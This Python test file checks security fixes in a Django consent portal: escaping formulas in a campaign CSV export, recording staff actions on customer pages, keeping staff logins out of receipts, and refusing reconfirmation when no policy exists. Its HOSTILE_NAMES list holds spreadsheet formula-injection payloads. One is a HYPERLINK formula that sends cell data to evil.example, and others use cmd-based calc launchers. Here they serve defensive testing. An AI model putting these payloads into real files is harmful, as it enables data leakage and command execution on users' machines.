"""Holes a security test of the portal found in consent (issue 17), each closed: formulas in the
campaign CSV, staff acting as the customer through the manage link, receipts naming staff by
login, and reconfirming where no reconfirmation policy exists."""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from consent import selectors, services
from consent.models import ConsentEvent
from tests.consent.test_pages import grant_through_page, issue, open_link
from tests.factories import CompanyFactory, StaffFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&E2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def manage_path(company) -> str:
    return services.manage_link_path(company)


def customer_grants(company, product) -> Client:
    """The customer's own browser: open the link, agree, and keep the session."""
    browser = Client()
    open_link(browser, issue(company, [product]).token)
    grant_through_page(browser, product)
    return browser


def test_company_names_in_the_campaign_csv_never_start_a_formula(client, product):
    client.force_login(StaffFactory(role="operator"))
    companies = [CompanyFactory(name=name) for name in HOSTILE_NAMES]

    response = client.post(
        reverse("admin:consent_campaign_add"),
        {"name": "Spring", "products": [product.pk], "companies": [c.pk for c in companies]},
    )

    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(row["company"] for row in rows) == sorted("'" + name for name in HOSTILE_NAMES)
    # The link column is untouched: it is what the file is for.
    assert all(row["consent_link"].startswith("http") for row in rows)


def test_a_plain_company_name_is_left_as_it_is():
    from core.csv_export import spreadsheet_safe

    assert spreadsheet_safe("Acme Bakery Ltd") == "Acme Bakery Ltd"
    assert spreadsheet_safe(42) == 42
    assert spreadsheet_safe("=1") == "'=1"


def test_the_link_issued_page_does_not_show_staff_the_manage_link(client, company, product):
    client.force_login(StaffFactory(role="operator"))
    response = client.post(
        reverse("admin:consent_companyconsent_request", args=[company.pk]),
        {"products": [product.pk], "email": ""},
    )
    assert response.status_code == 200
    assert b"/consent/link/" in response.content
    assert b"/consent/manage/link/" not in response.content


def test_a_withdrawal_from_a_staff_browser_is_recorded_as_that_staff_member(company, product):
    # given: the customer agreed; an operator, signed in, opens the customer's manage link
    customer_grants(company, product)
    operator = StaffFactory(role="operator", username="olive.ops")
    staff_browser = Client()
    staff_browser.force_login(operator)
    staff_browser.get(manage_path(company))

    # when
    response = staff_browser.post(reverse("consent:withdraw"), {"product": product.pk})

    # then: on the record as the operator acting for the customer, not as the customer
    assert response.status_code == 302
    withdrawal = ConsentEvent.objects.get(action="withdraw")
    assert (withdrawal.channel, withdrawal.actor) == ("admin", operator)
    receipt = staff_browser.get(response["Location"])
    assert b"olive.ops" not in receipt.content
    assert "a member of Northwind Lending plc&#x27;s staff" in receipt.content.decode()


def test_staff_who_may_not_record_consent_cannot_decide_on_the_customer_pages(company, product):
    customer_grants(company, product)
    viewer = StaffFactory(role="viewer")
    staff_browser = Client()
    staff_browser.force_login(viewer)
    staff_browser.get(manage_path(company))

    response = staff_browser.post(reverse("consent:withdraw"), {"product": product.pk})

    assert response.status_code == 403
    assert not ConsentEvent.objects.filter(action="withdraw").exists()


def test_a_grant_through_a_consent_link_in_a_staff_browser_names_the_staff_member(company, product):
    operator = StaffFactory(role="operator")
    staff_browser = Client()
    staff_browser.force_login(operator)
    open_link(staff_browser, issue(company, [product]).token)

    grant_through_page(staff_browser, product)

    grant = ConsentEvent.objects.get(action="grant")
    assert (grant.channel, grant.actor) == ("admin", operator)


def test_the_customers_own_withdrawal_stays_the_customers(company, product):
    browser = customer_grants(company, product)
    browser.get(manage_path(company))
    browser.post(reverse("consent:withdraw"), {"product": product.pk})
    withdrawal = ConsentEvent.objects.get(action="withdraw")
    assert (withdrawal.channel, withdrawal.actor) == ("manage", None)


def test_receipts_name_staff_generically_never_by_login(company, product):
    # given: an operator records a grant the customer gave by phone
    operator = StaffFactory(role="operator", username="olive.ops", first_name="Olive")
    operator.user_permissions.add(Permission.objects.get(codename="record_consent_for_customer"))
    event = services.consent_grant(
        company=company,
        product=product,
        text=selectors.consent_text_current(product=product),
        actor=services.Actor(channel="admin", user=operator),
    )
    # when: the customer, on the manage link, reads the receipt
    browser = Client()
    browser.get(manage_path(company))
    html = browser.get(reverse("consent:receipt", args=[event.receipt_id])).content.decode()
    document = json.loads(
        browser.get(reverse("consent:receipt_json", args=[event.receipt_id])).content
    )
    # then
    assert "olive.ops" not in html and "Olive" not in html
    assert "a member of Northwind Lending plc&#x27;s staff" in html
    assert document["x-portal"]["operator"] == "a member of Northwind Lending plc's staff"
    assert "Olive" not in json.dumps(document)
    # The evidence still says who it was.
    assert ConsentEvent.objects.get().actor == operator


def test_reconfirming_without_a_reconfirmation_policy_is_not_found_and_writes_nothing(
    settings, company, product
):
    settings.CONSENT_RECONFIRM_AFTER_DAYS = None
    browser = customer_grants(company, product)
    browser.get(manage_path(company))
    before = ConsentEvent.objects.count()

    response = browser.post(reverse("consent:reconfirm"), {"product": product.pk})

    assert response.status_code == 404
    assert ConsentEvent.objects.count() == before
    assert not ConsentEvent.objects.filter(action="reconfirm").exists()
